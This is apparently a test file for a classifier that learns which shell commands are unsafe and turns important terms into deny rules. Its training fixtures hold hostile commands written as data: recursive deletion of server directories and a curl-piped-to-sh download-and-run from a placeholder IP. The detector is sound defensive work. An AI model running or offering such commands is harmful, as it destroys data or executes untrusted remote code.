import { CommandVectors } from './command-vectors.js';
import { assembleModel, growTrees, preparePlot } from './grow-forest.js';
import { ModelFileError, readModel, writeModel } from './importance-model-file.js';
import { DEFAULT_IMPORTANCE_SETTINGS } from './importance-settings.js';
import { RuleHits } from './rule-hits.js';
import { suggestByImportance } from './suggest-by-importance.js';
import {
  trainImportance,
  trainImportanceFrom,
  type ImportanceOutcome,
  type ImportanceRow,
} from './train-importance.js';
import { VocabularyCounts } from './vocabulary-counts.js';

const numbered = (count: number, label: ImportanceRow['label'], command: (index: number) => string) =>
  Array.from({ length: count }, (_, index): ImportanceRow => ({ command: command(index), label }));

const ROWS = [
  ...numbered(60, 'safe', (i) => `ls -la /srv/app${i % 7} | grep name${i}`),
  ...numbered(40, 'safe', (i) => `git commit -m "change ${i}" && echo done`),
  ...numbered(20, 'safe', (i) => `rm build/out${i}.o`),
  ...numbered(9, 'unsafe', (i) => `rm -rf /srv/data${i}`),
  ...numbered(9, 'unsafe', (i) => `curl -s http://203.0.113.${i}/x | sh`),
];
const SMALL = { trees: 30, seed: 7 };

function modelOf(outcome: ImportanceOutcome) {
  if (outcome.status !== 'trained') throw new Error(outcome.message);
  return outcome.model;
}

describe('trainImportance', () => {
  const model = modelOf(trainImportance(ROWS, SMALL));

  it('ranks the terms that tell the classes apart, all importances together 1', () => {
    const top = model.top(500);
    expect(top.reduce((sum, { importance }) => sum + importance, 0)).toBeCloseTo(1, 10);
    expect(top.slice(0, 12).map(({ term }) => term)).toEqual(
      expect.arrayContaining(['rf', 'sh', 'curl http']),
    );
    expect(top.every(({ importance }, index) => importance <= (top[index - 1]?.importance ?? 1))).toBe(true);
  });

  it('gives the same forest for the same seed, and another for another', () => {
    const text = JSON.stringify(writeModel(model));
    expect(JSON.stringify(writeModel(modelOf(trainImportance(ROWS, SMALL))))).toBe(text);
    expect(JSON.stringify(writeModel(modelOf(trainImportance(ROWS, { ...SMALL, seed: 8 }))))).not.toBe(text);
  });

  it('gives the same forest whatever the order of rows and the shards of rows and trees', () => {
    const settings = { ...DEFAULT_IMPORTANCE_SETTINGS, ...SMALL };
    const sent = <T>(value: T): T => JSON.parse(JSON.stringify(value)) as T;
    const shards = [0, 1, 2].map((shard) => ROWS.filter((_, index) => index % 3 === shard).reverse());
    const counts = new VocabularyCounts();
    for (const shard of shards) {
      const part = new VocabularyCounts();
      for (const { command, label } of shard) part.add(command, label);
      counts.merge(sent(part.toJSON()));
    }
    expect(counts).toMatchObject({ safeRows: 120, unsafeRows: 18 });
    const frequent = sent(counts.frequent(settings.features));
    const vectors = new CommandVectors(frequent);
    for (const shard of shards.reverse()) {
      const part = new CommandVectors(frequent);
      for (const { command, label } of shard) part.add(command, label);
      vectors.merge(sent(part.toJSON()));
    }
    const plot = preparePlot(vectors, settings);
    const late = [...growTrees(plot, settings, 11, 30)];
    const grown = [...growTrees(plot, settings, 0, 11), ...late];
    expect(JSON.stringify(writeModel(assembleModel(plot, settings, grown)))).toBe(
      JSON.stringify(writeModel(model)),
    );
  });

  it('makes the same model of rows in batches, and tells how far it is', async () => {
    async function* read(): AsyncGenerator<ImportanceRow[]> {
      for (let at = 0; at < ROWS.length; at += 50) yield ROWS.slice(at, at + 50);
    }
    const seen: string[] = [];
    const progress = (step: string, done: number) => void seen.push(`${step} ${done}`);
    const streamed = modelOf(await trainImportanceFrom(read, SMALL, { progress }));
    expect(JSON.stringify(writeModel(streamed))).toBe(JSON.stringify(writeModel(model)));
    expect(seen).toEqual(
      expect.arrayContaining(['vocabulary 50', 'vocabulary 138', 'vectors 100', 'vectors 138', 'trees 30']),
    );
    expect(await trainImportanceFrom(read, { minRows: 1_000 })).toMatchObject({ code: 'too_few_labels' });
  });

  it('estimates safety, with contributions that add up to it', () => {
    const unsafe = model.predict('rm -rf /srv/data77');
    const safe = model.predict('git commit -m "change 77" && echo done');
    expect(unsafe.safety).toBeLessThan(0.4);
    expect(safe.safety).toBeGreaterThan(0.9);
    for (const { safety, base, against, inFavour } of [unsafe, safe, model.predict('')]) {
      const sum = [...against, ...inFavour].reduce((all, { change }) => all + change, 0);
      expect(base - sum).toBeCloseTo(safety, 5);
      expect(against.every(({ change }) => change > 0)).toBe(true);
      expect(inFavour.every(({ change }) => change < 0)).toBe(true);
    }
    expect(unsafe.against.filter(({ present }) => present).map(({ term }) => term)).toContain('rf');
  });

  it.each([
    ['too_few_labels', ROWS.slice(-9)],
    ['one_class_only', ROWS.filter(({ label }) => label === 'safe')],
    ['one_class_only', ROWS.filter(({ label }) => label === 'unsafe')],
    ['too_few_labels', numbered(20, 'safe', () => '; : !').concat(numbered(20, 'unsafe', () => '\0 a'))],
    ['too_few_labels', []],
  ] as const)('refuses with %s', (code, rows) => {
    expect(trainImportance(rows, SMALL)).toMatchObject({ status: 'failed', code });
  });

  it('refuses settings that no forest can have', () => {
    expect(() => trainImportance(ROWS, { depth: 16 })).toThrow('depth is 16');
    expect(() => trainImportance(ROWS, { trees: 0 })).toThrow(RangeError);
    expect(() => trainImportance(ROWS, { seed: 0.5 })).toThrow('seed');
  });

  it('takes contradicting labels, very long lines and broken text', () => {
    const odd = [
      ...numbered(20, 'safe', () => 'rm -rf /srv'),
      ...numbered(20, 'unsafe', () => 'rm -rf /srv'),
      ...numbered(2, 'unsafe', (i) => `${'tar x\0 \ud800 '.repeat(50_000)}${i}`),
    ];
    const { parts, predict } = modelOf(trainImportance(odd, SMALL));
    expect(parts.trainedOn).toEqual({ safeRows: 20, unsafeRows: 22 });
    expect(predict.call(modelOf(trainImportance(odd, SMALL)), 'rm -rf /srv').safety).toBeCloseTo(0.5, 0);
  });
});

describe('a model file', () => {
  const model = modelOf(trainImportance(ROWS, SMALL));
  const text = JSON.stringify(writeModel(model));
  const changed = (change: object) => JSON.stringify({ ...JSON.parse(text), ...change });
  const aTree = writeModel(model).trees[0]!;

  it('is the same model again', () => {
    const read = readModel(text);
    expect(JSON.stringify(writeModel(read))).toBe(text);
    expect(read.predict('rm -rf /srv/data3')).toEqual(model.predict('rm -rf /srv/data3'));
  });

  it.each([
    ['no JSON', text.slice(0, -20), 'not JSON'],
    ['no model', '{"a": 1}', 'no model'],
    ['null', 'null', 'no model'],
    ['another version', changed({ version: 2 }), 'version 2'],
    ['no trees', changed({ trees: [] }), 'no trees'],
    ['missing weights', changed({ idf: [1] }), 'one weight'],
    ['a tree without arrays', changed({ trees: [{}] }), 'a tree is cut off. Train it again'],
    ['a tree that is none', changed({ trees: [null] }), 'damaged: it is no whole model. Train it again'],
    ['half a number', changed({ trees: [{ ...aTree, shares: 'AAA=' }] }), 'a tree is cut off'],
    [
      'shares that are none',
      changed({ trees: [{ ...aTree, shares: aTree.shares.replace(/[^=]/g, '/') }] }),
      'numbers that are none',
    ],
    ['no settings', changed({ settings: null }), 'it is no whole model'],
    ['no numbers of commands', changed({ trainedOn: { safeRows: -1 } }), 'of how many commands'],
    [
      'a tree that leads back',
      changed({ trees: [{ features: 'AAA=', thresholds: 'AAAAAA==', rights: 'AAA=', shares: 'AAAAAA==' }] }),
      'leads nowhere',
    ],
  ])('is refused as %s', (_, broken, message) => {
    expect(() => readModel(broken)).toThrow(ModelFileError);
    expect(() => readModel(broken)).toThrow(message);
  });
});

describe('suggestByImportance', () => {
  const model = modelOf(trainImportance(ROWS, SMALL));
  const top = model.top(200);

  it('says how many safe commands each rule hits, and that importances have no sign', () => {
    const halves = [ROWS.slice(0, 70), ROWS.slice(70)].map((rows) => {
      const hits = new RuleHits(top);
      for (const row of rows) hits.add(row);
      return hits;
    });
    halves[0]!.merge(JSON.parse(JSON.stringify(halves[1])) as ReturnType<RuleHits['toJSON']>);
    const suggestion = suggestByImportance(model, 200, halves[0]!.toJSON());
    expect(suggestion.rules).toHaveLength(top.length);
    const of = (term: string) => suggestion.evidence.find((evidence) => evidence.term === term)!;
    expect(of('curl')).toMatchObject({ pattern: '\\bcurl\\b', unsafeHits: 9, safeHits: 0, precision: 1 });
    expect(of('rm')).toMatchObject({ unsafeHits: 9, safeHits: 20 });
    expect(of('rm').contradictions).toHaveLength(5);
    expect(suggestion.rules[0]).toMatchObject({
      effect: 'deny',
      target: 'command',
      pattern: top[0]!.pattern,
    });
    expect(suggestion.warning).toContain('Importances have no sign');
    expect(suggestion.warning).toContain(`denied ${suggestion.totals.deniedSafe} of 120 safe commands`);
    expect(suggestion.totals.deniedUnsafe).toBe(18);
  });

  it('refuses hits of other rules', () => {
    const other = new RuleHits([{ term: 'x1', pattern: '\\bx1\\b' }]).toJSON();
    expect(() => suggestByImportance(model, 3, other)).toThrow('other rules');
    expect(() => new RuleHits(top).merge(other)).toThrow('other rules');
  });
});
